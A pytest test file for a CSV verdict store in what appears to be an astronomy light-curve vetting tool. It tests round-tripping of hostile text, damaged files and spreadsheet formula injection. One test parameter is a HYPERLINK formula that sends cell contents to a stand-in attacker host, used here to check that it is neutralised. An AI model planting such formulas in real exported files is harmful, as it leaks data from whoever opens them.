"""Issue 12, items 5 and 15: a verdict file keeps every verdict whatever the text, and reads back what was written.

Hostile input: notes too long for the csv module, file names that are not UTF-8, keys with line
breaks, a byte-order mark from Excel, cells a spreadsheet would run as formulas; and hostile files:
truncated anywhere, or with random bytes appended. Either a verdict reads back exactly as recorded,
or ``record`` refuses it with a clear error and the file is unchanged; damage is reported as a
:class:`VerdictFileWarning` naming the file, never as a traceback.
"""

from __future__ import annotations

import csv
import functools
import io
import os
import tempfile
import warnings
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qusi_lab.errors import LabelError
from qusi_lab.io.spreadsheet import FORMULA_PREFIXES
from qusi_lab.vetting import CandidateQueue, VerdictFileWarning, VerdictStore, read_verdicts
from qusi_lab.vetting.store import MAX_FIELD_CHARACTERS

CSV_FIELD_LIMIT = 131_072  # the csv module's default field_size_limit()
# No example database: it would leave a .hypothesis folder in the checkout.
PROPERTY = settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


def strict_reopen(path: Path) -> VerdictStore:
    """Reopen the file; any damage warning fails the test."""
    with warnings.catch_warnings():
        warnings.simplefilter("error", VerdictFileWarning)
        return VerdictStore(path)


def cells(path: Path) -> list[list[str]]:
    """The file's cells exactly as a spreadsheet program gets them."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


# ------------------------------------------------------------------ long notes (item 5)
def test_a_note_the_csv_module_cannot_read_back_is_refused_before_writing(tmp_path) -> None:
    path = tmp_path / "verdicts.csv"
    store = VerdictStore(path, user="ana")
    before = path.read_bytes()
    with pytest.raises(ValueError, match=r"note is 131,073 characters.*at most 100,000.*nothing was written"):
        store.record("a.fits", "variable", note="x" * (CSV_FIELD_LIMIT + 1))
    assert path.read_bytes() == before and not store.can_undo
    longest = "y" * MAX_FIELD_CHARACTERS
    store.record("a.fits", "variable", note=longest)  # the documented maximum is kept, and read back
    assert strict_reopen(path).state["a.fits"].note == longest
    assert pd.read_csv(path).note.iloc[0] == longest


def test_a_long_field_written_by_an_older_version_is_read_not_skipped(tmp_path) -> None:
    path = tmp_path / "verdicts.csv"
    VerdictStore(path)
    with open(path, "a", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerow(
            ["2026-11-22T10:00:00.000+00:00", "ana", "s", "verdict", "a.fits", "", "", "", "variable",
             "z" * 200_000, "", ""])
    assert strict_reopen(path).state["a.fits"].note == "z" * 200_000
    assert csv.field_size_limit() == CSV_FIELD_LIMIT  # raised for that line only


# ------------------------------------------------------------------ keys that are not plain text (item 5)
def test_a_file_name_that_is_not_utf8_keeps_its_verdict_and_the_file_stays_utf8(tmp_path) -> None:
    path = tmp_path / "verdicts.csv"
    name = os.fsdecode(b"/data/s01/tess\xff\xfe-lc.fits")  # how Python names such a file on Linux
    table = pd.DataFrame({"path": [name, "/data/s01/other.fits"], "target_id": ["TIC 1", "TIC 2"],
                          "score": [0.9, 0.8]})
    queue = CandidateQueue(table, path, user="ana")
    record = queue.record("planet candidate", note="odd bytes in the name")
    assert record.key == name and record.path == name
    text = path.read_bytes().decode("utf-8")  # still UTF-8 text: pandas, spreadsheets and editors read it
    assert "tess%FF%FE-lc.fits" in text
    assert strict_reopen(path).verdict_of(name) == "planet candidate"
    reopened = CandidateQueue(table, path, user="ana")
    assert reopened.progress_text == "1 of 2 vetted" and reopened.current is not None
    assert reopened.current.target_id == "TIC 2"
    assert read_verdicts(path).path.tolist() == [name]
    assert len(pd.read_csv(path)) == 1


def test_a_key_with_a_line_break_keeps_its_verdict(tmp_path) -> None:
    path = tmp_path / "verdicts.csv"
    name = "/data/odd\nname\r.fits"
    store = VerdictStore(path)
    store.record(name, "variable", path=name, target_id="TIC\n7")
    assert len(path.read_text(encoding="utf-8").splitlines()) == 2  # one record, one line
    reopened = strict_reopen(path)
    assert reopened.verdict_of(name) == "variable" and reopened.state[name].target_id == "TIC\n7"


def test_a_lone_surrogate_that_is_no_file_name_byte_is_refused_clearly(tmp_path) -> None:
    path = tmp_path / "verdicts.csv"
    store = VerdictStore(path)
    before = path.read_bytes()
    with pytest.raises(ValueError, match="lone surrogate"):
        store.record("a\ud800.fits", "variable")
    assert path.read_bytes() == before


# ------------------------------------------------------------------ a byte-order mark (item 5)
def test_a_file_saved_with_a_byte_order_mark_keeps_its_times(tmp_path) -> None:
    path = tmp_path / "verdicts.csv"
    store = VerdictStore(path, user="ana")
    store.record("a.fits", "variable")
    store.record("b.fits", "systematic")
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # as Excel saves "CSV UTF-8"
    frame = read_verdicts(path)
    assert frame.time.notna().all() and len(frame) == 2
    reopened = strict_reopen(path)
    assert all(record.time.startswith("20") for record in reopened.records)
    reopened.record("c.fits", "unsure")
    assert read_verdicts(path).time.notna().all()


# ------------------------------------------------------------------ CSV injection (item 15)
@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 sigma", "-ve dip",
                                  "@SUM(A1:A9)", "\tindented", "'=not a formula", "'t Hooft", "''", "'%41"])
def test_formula_cells_are_neutralised_in_the_file_and_read_back_exactly(tmp_path, note: str) -> None:
    path = tmp_path / "verdicts.csv"
    target = "\rTIC 1" if note.startswith("\t") else "=TIC 1"
    VerdictStore(path, user="@ana").record("-a.fits", "variable", note=note, target_id=target, path="+a.fits")
    for cell in cells(path)[1]:
        assert not cell.startswith(FORMULA_PREFIXES), cell  # nothing a spreadsheet would evaluate
    record = strict_reopen(path).state["-a.fits"]
    assert (record.note, record.target_id, record.path, record.user) == (note, target, "+a.fits", "@ana")


# ------------------------------------------------------------------ properties (item 5)
file_names = st.binary(min_size=1, max_size=40).map(os.fsdecode)
keys = st.one_of(st.text(min_size=1, max_size=40), file_names)
long_notes = st.builds(lambda character, count: character * count, st.characters(),
                       st.integers(MAX_FIELD_CHARACTERS - 10, CSV_FIELD_LIMIT + 10))
notes = st.one_of(st.text(), st.text(alphabet=st.sampled_from(list(',"\'\n\r\x00=+-@\t%; é')), max_size=60),
                  long_notes)


@PROPERTY
@given(key=keys, note=notes, target_id=st.text(max_size=20))
def test_record_then_reopen_gives_back_the_record_or_a_clear_error_and_no_write(key: str, note: str,
                                                                               target_id: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "verdicts.csv"
        store = VerdictStore(path, user="ana")
        before = path.read_bytes()
        try:
            record = store.record(key, "variable", note=note, target_id=target_id, path=key, score=0.5)
        except ValueError as error:
            assert "nothing was written" in str(error) or "surrogate" in str(error)
            assert path.read_bytes() == before
            return
        assert (record.key, record.path, record.target_id) == (key, key, target_id)
        if not any(character in note for character in "\r\n\x00"):
            assert record.note == note  # line breaks become spaces (documented); all else is kept
        assert strict_reopen(path).records == [record]
        path.read_bytes().decode("utf-8")
        assert len(pd.read_csv(path, dtype=str, keep_default_na=False)) == 1


@functools.lru_cache(maxsize=1)
def sample_file() -> tuple[bytes, tuple[tuple[str, ...], ...]]:
    """A verdict file with hostile but valid content, and each record's row."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "verdicts.csv"
        store = VerdictStore(path, user="ana")
        for index, note in enumerate(["plain", 'commas, "quotes"', "=1+1", "φ=0.5 — ok", "", "'t Hooft"]):
            store.record(os.fsdecode(b"/d/%d\xff.fits" % index) if index % 2 else f"/d/{index}.fits",
                         "variable", note=note, target_id=f"TIC {index}", score=index / 10)
        store.undo()
        return path.read_bytes(), tuple(tuple(record.as_row()) for record in store.records)


def read_damaged(path: Path) -> tuple[list[tuple[str, ...]], list[str]]:
    """Rows read from a damaged file, and the warnings given (an exception fails the test)."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        frame = read_verdicts(path, latest=False)
        reopened = VerdictStore(path)
    messages = [str(warning.message) for warning in caught if issubclass(warning.category, VerdictFileWarning)]
    assert all(str(path) in message for message in messages)
    rows = [tuple(record.as_row()) for record in reopened.records]
    assert len(frame) == len(rows)
    return rows, messages


@PROPERTY
@given(data=st.data())
def test_a_truncated_file_gives_its_intact_records_and_reports_the_rest(data: st.DataObject) -> None:
    content, _ = sample_file()
    header_length = content.index(b"\n") + 1
    # The edges (header without its end of line, first record cut) always, then anywhere.
    edge = st.sampled_from([0, 5, header_length - 1, header_length, header_length + 1, len(content) - 1])
    check_truncated_at(data.draw(edge | st.integers(0, len(content))))


def check_truncated_at(cut: int) -> None:
    content, rows = sample_file()
    header_length = content.index(b"\n") + 1
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "verdicts.csv"
        path.write_bytes(content[:cut])
        if 0 < cut < header_length - 1:  # not even the header is left: refused, naming the file
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", VerdictFileWarning)
                with pytest.raises(LabelError, match="no complete header line") as raised:
                    read_verdicts(path)
                assert str(path) in str(raised.value)
                with pytest.raises(LabelError, match="no complete header line"):
                    VerdictStore(path)
            return
        if cut == 0:
            assert VerdictStore(path).records == []
            return
        intact = max(0, content[:cut].count(b"\n") - 1)  # records whose whole line survived
        read, messages = read_damaged(path)
        assert read == list(rows[:intact])
        assert bool(messages) == (cut > header_length and not content[:cut].endswith(b"\n"))
        # The store goes on: the next verdict is read back after the intact ones.
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", VerdictFileWarning)  # reported above already
            VerdictStore(path).record("/d/new.fits", "unsure")
            assert VerdictStore(path).records[-1].key == "/d/new.fits"


@PROPERTY
@given(garbage=st.binary(min_size=1, max_size=300))
def test_random_bytes_appended_are_reported_and_every_record_kept(garbage: bytes) -> None:
    content, rows = sample_file()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "verdicts.csv"
        path.write_bytes(content + garbage)
        read, messages = read_damaged(path)
        assert read == list(rows)
        if any(line.strip() for line in garbage.split(b"\n")):
            assert messages, "damage went unreported"
